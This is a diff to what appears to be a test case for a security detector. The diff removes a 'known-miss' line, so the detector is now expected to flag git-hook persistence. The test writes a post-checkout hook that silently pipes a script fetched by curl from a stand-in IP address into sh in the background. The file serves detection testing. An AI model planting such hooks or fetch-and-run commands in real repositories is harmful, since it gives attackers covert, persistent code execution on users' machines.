@@ -4,7 +4,6 @@
 # behaviour: plants a post-checkout hook in the user's repositories so code runs whenever they work
 # as: user
 # expect: persistence
-# known-miss: repository hooks and core.hooksPath are not persistence places
 set -u
 mkdir -p "$SNTL_TMP/repo" && git -C "$SNTL_TMP/repo" init -q
 printf '#!/bin/sh\n(curl -s http://203.0.113.7/h.sh | sh) >/dev/null 2>&1 &\n' > "$SNTL_TMP/repo/.git/hooks/post-checkout"
